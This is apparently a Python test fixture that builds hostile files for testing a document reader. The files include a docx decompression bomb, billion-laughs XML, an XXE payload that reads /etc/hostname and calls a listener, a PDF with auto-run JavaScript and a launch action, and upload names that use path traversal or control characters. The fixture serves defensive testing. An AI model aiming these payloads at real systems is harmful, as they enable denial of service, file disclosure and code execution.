"""Files made to break readers, and what must become of each."""

import io
from collections.abc import Iterator
from dataclasses import dataclass
from zipfile import ZIP_DEFLATED, ZipFile

from evals.checks.generated.as_text import html
from evals.checks.generated.invented import statute

_BOMB_MB = 1_500
_PAGES = 10_000


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file's name, its bytes, whether it must be refused (None: either is right), and the name it is uploaded as."""

    name: str
    data: bytes
    refused: bool | None
    uploaded_as: str = ""


def hostile_files(listener: str, *, large: bool = True) -> Iterator[Hostile]:
    """All of them, ``large`` ones too; what they fetch, if anything, is at ``listener`` (an address of our own)."""
    page = html(statute(900)).encode()
    yield Hostile("empty.pdf", b"", True)
    yield Hostile("empty.docx", b"", True)
    yield Hostile("blank.txt", b"\n \n", True)
    yield Hostile("picture.pdf", b"\x89PNG\r\n\x1a\n" + bytes(400), True)
    yield Hostile("page.docx", page, None)
    yield Hostile("page.pdf", page, None)
    yield Hostile("bytes.md", bytes(range(256)) * 50, None)
    yield Hostile("half.pdf", pages_pdf(30)[:2000], None)
    yield Hostile("active.pdf", _active_pdf(listener), None)
    yield Hostile("laughs.xml", _laughs(), True)
    yield Hostile("external.xml", _external(listener, "/etc/hostname"), True)
    yield Hostile("external.html", _fetching(page, listener), False)
    yield Hostile("path.md", _text("polku"), False, "../../../etc/cron.d/path.md")
    yield Hostile("windows.md", _text("levy"), False, "C:\\Windows\\..\\windows.md")
    yield Hostile("newline.md", _text("rivi"), False, "rivi\n\rvaihto\x1b[31m.md")
    yield Hostile("long.md", _text("pitkä"), False, "x" * 3000 + ".md")
    yield Hostile("turned.md", _text("käännetty"), False, "lasku\u202efdp.md")
    if large:
        yield Hostile("bomb.docx", _docx_bomb(), True)
        yield Hostile("many-pages.pdf", pages_pdf(_PAGES), False)
        yield Hostile("deep.html", b"<div>" * 50_000 + b"text" + b"</div>" * 50_000, None)


def _text(word: str) -> bytes:
    return f"# Ohje {word}\n\nTässä ohjeessa kerrotaan, miten {word} otetaan huomioon.\n".encode()


def _docx_bomb() -> bytes:
    """A few MB that unpack to fifteen hundred."""
    output = io.BytesIO()
    with ZipFile(output, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml"'
            ' ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
            ' Target="word/document.xml"/></Relationships>',
        )
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
            for _ in range(_BOMB_MB):
                part.write(b"<w:p/>" * ((1 << 20) // 6))
            part.write(b"</w:body></w:document>")
    return output.getvalue()


def pages_pdf(pages: int, catalog: bytes = b"") -> bytes:
    """A PDF with so many pages of a few lines, each with words of its own."""
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    kids = []
    for at in range(pages):
        lines = [
            f"{at + 1} luku",
            f"Sivun {at + 1} ensimmainen virke kertoo asiasta {at * 7919 % 99991}.",
            "Toinen virke.",
        ]
        drawn = "".join(f"BT /F1 11 Tf 70 {760 - 20 * row} Td ({line}) Tj ET\n" for row, line in enumerate(lines))
        content, number = drawn.encode(), len(objects) + 1
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>" % number
        )
        kids.append(b"%d 0 R" % (number + 1))
    objects[1] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, b" ".join(kids))
    output, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % place for place in places)
    output += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(output)


def _active_pdf(listener: str) -> bytes:
    """JavaScript and a fetch when it is opened, a program to start, an attachment that lies elsewhere."""
    script, url = f"/S /JavaScript /JS (app.launchURL\\('{listener}/js'\\))", f"/S /URI /URI ({listener}/open)"
    names = (
        f"/JavaScript << /Names [(a) << {script} >>] >> /EmbeddedFiles << /Names"
        f" [(haitta.exe) << /Type /Filespec /FS /URL /F ({listener}/haitta.exe) >>] >>"
    )
    launch = "<< /S /Launch /F (/bin/touch) /Next"
    active = f"/OpenAction {launch} << {script} /Next << {url} >> >> >> /AA << /WC << {url} >> >> /Names << {names} >>"
    return pages_pdf(3, active.encode())


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "haha">{entities}]><akomaNtoso>&l11;</akomaNtoso>'.encode()


def _external(listener: str, file: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "{listener}/dtd"> %p; <!ENTITY f SYSTEM "file://{file}">'
        f'<!ENTITY h SYSTEM "{listener}/entity">]><akomaNtoso>&f;&h;</akomaNtoso>'
    ).encode()


def _fetching(page: bytes, listener: str) -> bytes:
    extra = (
        f'<link rel="stylesheet" href="{listener}/css"><script src="{listener}/js"></script><img src="{listener}/img">'
        f'<iframe src="{listener}/frame"></iframe><object data="{listener}/object"></object>'
    ).encode()
    return page.replace(b"<main>", extra + b"<main>")
